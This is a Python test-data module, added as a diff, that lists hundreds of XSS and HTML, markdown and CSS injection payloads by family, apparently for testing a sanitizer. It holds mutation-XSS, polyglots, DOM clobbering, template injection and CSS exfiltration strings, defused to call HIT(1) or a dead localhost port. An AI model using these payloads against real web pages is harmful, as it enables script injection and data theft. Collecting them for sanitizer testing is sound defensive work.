@@ -1,0 +1,348 @@
+r"""Hostile texts, by the way in which each would make a page run or fetch something.
+
+Whatever runs calls ``HIT``; whatever fetches asks ``HOST``, which nobody answers. The families
+follow the public collections of the trade (OWASP's cheat sheet, html5sec, DOMPurify's own tests).
+"""
+
+HOST = "http://127.0.0.1:9"
+RUN = "HIT(1)"
+
+SCRIPTS = (
+    f"<script>{RUN}</script>",
+    f"<SCRIPT>{RUN}</SCRIPT>",
+    f"<script\n>{RUN}</script\n>",
+    f"<script/x>{RUN}</script>",
+    f"<script src={HOST}/a.js></script>",
+    "<script src=//127.0.0.1:9/b.js></script>",
+    f"<script type=module>import '{HOST}/c.js'</script>",
+    f"<script src='data:text/javascript,{RUN}'></script>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<<script>{RUN}//<</script>",
+    f"</script><script>{RUN}</script>",
+    f'"><script>{RUN}</script>',
+    f"'><script>{RUN}</script>",
+    f"--><script>{RUN}</script><!--",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"</style><script>{RUN}</script>",
+    f"]]><script>{RUN}</script>",
+    f"<script>{RUN}",
+    f"<script\x0c>{RUN}</script>",
+    f"<script\x00>{RUN}</script>",
+    f"<scr\x00ipt>{RUN}</script>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><script href='data:,{RUN}'/></svg>",
+    f"<svg><script xlink:href='{HOST}/d.js'></script></svg>",
+    f"<math><script>{RUN}</script></math>",
+    f"<noscript><script>{RUN}</script></noscript>",
+    f"<script language=vbscript>{RUN}</script>",
+    f"<template><script>{RUN}</script></template>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+)
+"""A script itself, whole, broken, nested, or after the end of what it stands in."""
+
+_SELF_FIRING = (
+    "img src=x onerror={}",
+    "img src=x:x onerror={}",
+    "img/src/onerror={}",
+    "img src onerror\n=\n{}",
+    "image src=x onerror={}",
+    "input autofocus onfocus={}",
+    "select autofocus onfocus={}",
+    "textarea autofocus onfocus={}",
+    "keygen autofocus onfocus={}",
+    "button autofocus onfocus={}",
+    "a href=# autofocus onfocus={} tabindex=0",
+    "video src=x onerror={}",
+    "audio src=x onerror={}",
+    "video><source onerror={}",
+    "video poster=x onloadstart={} src=data:,x",
+    "body onload={}",
+    "body onpageshow={}",
+    "body onhashchange={}",
+    "frameset onload={}",
+    "iframe onload={}",
+    "iframe src=about:blank onload={}",
+    "object data=x onerror={}",
+    "embed src=x onerror={}",
+    "link rel=stylesheet href=x onerror={}",
+    "style onload={}",
+    "marquee onstart={}",
+    "marquee loop=1 width=0 onfinish={}",
+    "details open ontoggle={}",
+    "dialog open onclose={}",
+    "svg onload={}",
+    "svg/onload={}",
+    "svg><animate onbegin={} attributeName=x dur=1s",
+    "svg><set onbegin={} attributeName=x",
+    "svg><image href=x onerror={}",
+    "svg><a><rect onclick={} width=99 height=99",
+    "math><mtext onclick={}",
+    "p style=animation-name:rise onanimationstart={}",
+    "p style=transition:color\\ 1s ontransitionend={}",
+    "p id=x tabindex=0 onfocus={}",
+    "p contenteditable onblur={}",
+    "meter onmouseover={}",
+    "progress onpointerenter={}",
+    "xss onpointerrawupdate={}",
+    "xss contenteditable onbeforeinput={}",
+    "xss onscrollend={} style=overflow:auto",
+    "xss popover onbeforetoggle={}",
+    "isindex type=image src=x onerror={}",
+    "bgsound onpropertychange={}",
+    "custom-element onclick={}",
+    "div oncontentvisibilityautostatechange={} style=content-visibility:auto",
+)
+HANDLERS = tuple(
+    wrapped
+    for each in _SELF_FIRING
+    for wrapped in (f"<{each.format(RUN)}>", f"<{each.format(f'`{RUN}`').upper()} x=1 //")
+)
+"""Attributes that run by themselves, tidy and as no browser should have to read them."""
+
+BROKEN_OUT = tuple(
+    f"{out}{then}"
+    for out in ('"', "'", "`", '">', "'>", "`>", "-->", "*/", "\\", ");", "}}", "\n\n", "&quot;>")
+    for then in (f" onerror={RUN} x=", f" autofocus onfocus={RUN} x=", f"<img src=x onerror={RUN}>")
+)
+"""What ends an attribute, a string or a comment that the text might stand in."""
+
+_SPELLINGS = (
+    "javascript:{}",
+    "JaVaScRiPt:{}",
+    "java\tscript:{}",
+    "java\nscript:{}",
+    "java\rscript:{}",
+    " javascript:{}",
+    "\x01javascript:{}",
+    "javascript\t:{}",
+    "javascript://%0a{}",
+    "&#106;avascript:{}",
+    "&#x6A;avascript&colon;{}",
+    "&#0000106avascript:{}",
+    "java&Tab;script:{}",
+    "java&NewLine;script:{}",
+    "feed:javascript:{}",
+    "view-source:javascript:{}",
+    "vbscript:{}",
+    "livescript:{}",
+    "data:text/html,<script>{}</script>",
+    "data:text/html;base64,PHNjcmlwdD5ISVQoMSk8L3NjcmlwdD4=",
+    "data:image/svg+xml,<svg onload={}>",
+    "data:application/xhtml+xml,<x onclick='{}'/>",
+    "blob:null/x#{}",
+    "file:///etc/passwd#{}",
+    "filesystem:x#{}",
+    "//127.0.0.1:9/x#{}",
+)
+_URL_SLOTS = (
+    '<a href="{}">가</a>',
+    '<iframe src="{}"></iframe>',
+    "[가]({})",
+    "![가]({})",
+)
+URLS = tuple(slot.format(url.format(RUN)) for url in _SPELLINGS for slot in _URL_SLOTS)
+"""Addresses that are programs, in every place that takes an address."""
+
+PLACES_FOR_URLS = (
+    f"<form action=javascript:{RUN}><input type=submit>",
+    f"<form><button formaction=javascript:{RUN}>가</button></form>",
+    f"<object data=javascript:{RUN}></object>",
+    f"<embed src=javascript:{RUN}>",
+    f"<base href={HOST}/><img src=x>",
+    f"<base href=javascript:{RUN}//>",
+    f"<link rel=import href={HOST}/x>",
+    f"<link rel=stylesheet href={HOST}/x.css>",
+    f"<link rel=prefetch href={HOST}/x>",
+    f"<link rel=dns-prefetch href={HOST}>",
+    f"<link rel=preconnect href={HOST}>",
+    f"<link rel=icon href={HOST}/i.png>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    f"<meta http-equiv=refresh content='0;url={HOST}/'>",
+    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
+    f"<img src={HOST}/i.png>",
+    f"<img srcset='{HOST}/i.png 2x'>",
+    f"<picture><source srcset={HOST}/i.png><img></picture>",
+    f"<img src=x lowsrc={HOST}/i.png>",
+    f"<video src={HOST}/v.mp4 autoplay>",
+    f"<video poster={HOST}/p.png>",
+    f"<audio src={HOST}/a.mp3 autoplay>",
+    f"<video><track default src={HOST}/t.vtt>",
+    f"<input type=image src={HOST}/i.png>",
+    f"<body background={HOST}/i.png>",
+    f"<table background={HOST}/i.png>",
+    f"<svg><image href={HOST}/i.png /></svg>",
+    f"<svg><use href={HOST}/s.svg#x /></svg>",
+    f"<svg><feImage href={HOST}/s.svg /></svg>",
+    f"<svg><a xlink:href=javascript:{RUN}><text y=9>가</text></a></svg>",
+    f"<svg><animate attributeName=href values=javascript:{RUN} /></svg>",
+    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>가</maction></math>",
+    f"<math href=javascript:{RUN}>가</math>",
+    f"<a ping={HOST}/p href=#>가</a>",
+    f"<iframe src={HOST}/></iframe>",
+    f"<frame src={HOST}/>",
+    f"<portal src={HOST}/></portal>",
+    f"<applet codebase={HOST}/ code=x></applet>",
+    f"<blockquote cite=javascript:{RUN}>가</blockquote>",
+    f"<html manifest={HOST}/m>",
+    f"<script src={HOST}/x></script><img src={HOST}/y>",
+    f"<fencedframe src={HOST}/></fencedframe>",
+)
+"""Elements and attributes that fetch, go somewhere or change where others go."""
+
+STYLES = (
+    f"<style>@import '{HOST}/x.css';</style>",
+    f"<style>*{{background:url({HOST}/b.png)}}</style>",
+    f"<style>@font-face{{font-family:x;src:url({HOST}/f.woff)}}*{{font-family:x}}</style>",
+    f"<p style=\"background:url('{HOST}/b.png')\">가</p>",
+    f'<p style="background-image:url(javascript:{RUN})">가</p>',
+    f'<p style="width:expression({RUN})">가</p>',
+    f'<p style="-moz-binding:url({HOST}/x.xml#x)">가</p>',
+    f'<p style="behavior:url({HOST}/x.htc)">가</p>',
+    f'<p style="list-style:url({HOST}/l.png)">가</p>',
+    f"<p style=\"content:image-set('{HOST}/i.png' 1x)\">가</p>",
+    f'<p style="cursor:url({HOST}/c.cur),auto">가</p>',
+    "<p style=position:fixed;inset:0;z-index:99999;background:red>가</p>",
+    f"<style>input[value^=a]{{background:url({HOST}/a)}}</style>",
+    f"}}*{{background:url({HOST}/out.png)}}",
+    f"red;background:url({HOST}/dye.png)",
+    f"<style><img src=x onerror={RUN}></style>",
+    f"<link rel=stylesheet href=\"data:text/css,*{{background:url('{HOST}/d')}}\">",
+)
+"""Style sheets that fetch, run or lay something over the page."""
+
+MARKDOWN = (
+    f"![x]({HOST}/i.png)",
+    f"![x]({HOST}/i.png 'title\" onerror=\"{RUN}')",
+    f"![x](<{HOST}/i.png>)",
+    f"![x][ref]\n\n[ref]: {HOST}/i.png",
+    f"[x][ref]\n\n[ref]: javascript:{RUN}",
+    f"<javascript:{RUN}>",
+    f"<{HOST}/>",
+    f"{HOST}/plain",
+    f'[x](javascript:{RUN} "t")',
+    f"[x](\x00javascript:{RUN})",
+    f"[![x]({HOST}/a)](javascript:{RUN})",
+    f"[x](<javascript:{RUN}>)",
+    f'```"><img src=x onerror={RUN}>\n가\n```',
+    f'```js" onmouseover={RUN} x="\n가\n```',
+    f"`<img src=x onerror={RUN}>`",
+    f"# <img src=x onerror={RUN}>",
+    f"> <img src=x onerror={RUN}>",
+    f"- <svg/onload={RUN}>",
+    f"| <img src=x onerror={RUN}> |\n|---|\n| <svg/onload={RUN}> |",
+    f"*<img src=x onerror={RUN}>*",
+    f"“<svg/onload={RUN}>”",
+    f"\\<img src=x onerror={RUN}>",
+    f"<!-- --><img src=x onerror={RUN}>",
+    f"<div>\n\n[x](javascript:{RUN})\n\n</div>",
+    f"$\\href{{javascript:{RUN}}}{{x}}$",
+    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
+)
+"""Markdown that makes links, pictures or HTML."""
+
+SPELLED = (
+    f"&lt;img src=x onerror={RUN}&gt;",
+    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
+    f"&#60;img src=x onerror={RUN}&#62;",
+    f"&#x3c;svg onload={RUN}&#x3e;",
+    f"\\u003cimg src=x onerror={RUN}\\u003e",
+    f"\\x3cimg src=x onerror={RUN}\\x3e",
+    f"%3Cimg src=x onerror={RUN}%3E",
+    f"+ADw-img src=x onerror={RUN}+AD4-",
+    f"\uff1cimg src=x onerror={RUN}\uff1e",
+    f"\u2039script\u203a{RUN}\u2039/script\u203a",
+    f"\ufe64img src=x onerror={RUN}\ufe65",
+    f"<\u0130mg src=x onerror={RUN}>",
+    f"<\u017fcript>{RUN}</\u017fcript>",
+    f"<img src=x on\u200berror={RUN}>",
+    f"<img src=x onerror=\u202e{RUN}>",
+    f"\u202e<img src=x onerror={RUN}>\u2066",
+    f"\u2066\u2067\u2068<svg/onload={RUN}>\u2069",
+    f"\ufeff<img src=x onerror={RUN}>",
+    f"\x00<img src=x onerror={RUN}>",
+    f"<img\x0bsrc=x onerror={RUN}>",
+    f"<img src=x onerror={RUN}\x00>",
+    f"\x1b[31m<img src=x onerror={RUN}>",
+    f"\u2028<img src=x onerror={RUN}>\u2029",
+    f"\U000e0001<svg/onload={RUN}>",
+    f"가\u0301\u0301<svg/onload={RUN}>",
+    f"\x85<img src=x onerror={RUN}>\xa0",
+)
+"""The same in other spellings: entities, escapes, look-alikes, bidi, NUL and what is not seen."""
+
+MUTATING = (
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;svg onload={RUN}&gt;'>",
+    f"<svg></p><style><a title='</style><img src=x onerror={RUN}>'>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
+    f"<math><mi><style><!--</mi><img src=x onerror={RUN}>--></style></math>",
+    f"<svg><desc><noembed><img src=x onerror={RUN}></noembed></desc></svg>",
+    f"<svg><foreignObject><svg><style><img src=x onerror={RUN}></style></svg></foreignObject>",
+    f"<table><td><svg><desc></table><img src=x onerror={RUN}>",
+    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
+    f"<xmp><img src=x onerror={RUN}></xmp>",
+    f"<plaintext><img src=x onerror={RUN}>",
+    f"<textarea></textarea><img src=x onerror={RUN}>",
+    f"<select><template><img src=x onerror={RUN}></template></select>",
+    f"<a><table><a><img src=x onerror={RUN}></table>",
+    f'<p title="`"><img src=x onerror={RUN}>`',
+    f"<![CDATA[<img src=x onerror={RUN}>]]>",
+    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
+    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>&y;",
+    f"<annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml>",
+    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
+    f"<option><style></option></select><img src=x onerror={RUN}></style>",
+    "<b>" * 600 + f"<img src=x onerror={RUN}>",
+)
+"""Harmless when read once, dangerous when written out and read again."""
+
+NAMED = (
+    "<form name=body><input name=firstChild></form>",
+    "<img name=pywebview><a id=pywebview>",
+    "<a id=HIT></a><a id=HIT name=x>",
+    "<form id=document><output id=cookie></form>",
+    "<input name=__proto__><input id=constructor>",
+    "__proto__",
+    "constructor",
+    "constructor.prototype.polluted",
+    "hasOwnProperty",
+    "toString",
+    f"{{{{constructor.constructor('{RUN}')()}}}}",
+    f"{{@html '<img src=x onerror={RUN}>'}}",
+    f"${{{RUN}}}",
+    f"<%= {RUN} %>",
+    f"#{{{RUN}}}",
+    f"{{{{= {RUN} }}}}",
+    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>",
+    f"';{RUN}//\\';{RUN}//\";{RUN}//\\\";{RUN}//--></script>\">'><img src=x onerror={RUN}>",
+    f"window.pywebview.api.call('room.trash',{{}});{RUN}",
+    f'");{RUN};("',
+)
+"""Names that stand for something else in a page or a template, and the famous ones for all."""
+
+LONG = (
+    "가" * 50_000 + f"<img src=x onerror={RUN}>",
+    f"<img src=x onerror={RUN}>" * 500,
+    "<" * 20_000 + f"img src=x onerror={RUN}>",
+    "&" * 20_000 + f"<svg/onload={RUN}>",
+    "*" * 10_000 + f"<svg/onload={RUN}>",
+    "[" * 5_000 + f"x](javascript:{RUN})",
+)
+"""More than anybody would type."""
+
+FAMILIES = {
+    "scripts": SCRIPTS,
+    "handlers": HANDLERS,
+    "broken out": BROKEN_OUT,
+    "urls": URLS,
+    "places for urls": PLACES_FOR_URLS,
+    "styles": STYLES,
+    "markdown": MARKDOWN,
+    "spelled": SPELLED,
+    "mutating": MUTATING,
+    "named": NAMED,
+    "long": LONG,
+}
+
+VECTORS = tuple(dict.fromkeys(vector for family in FAMILIES.values() for vector in family))
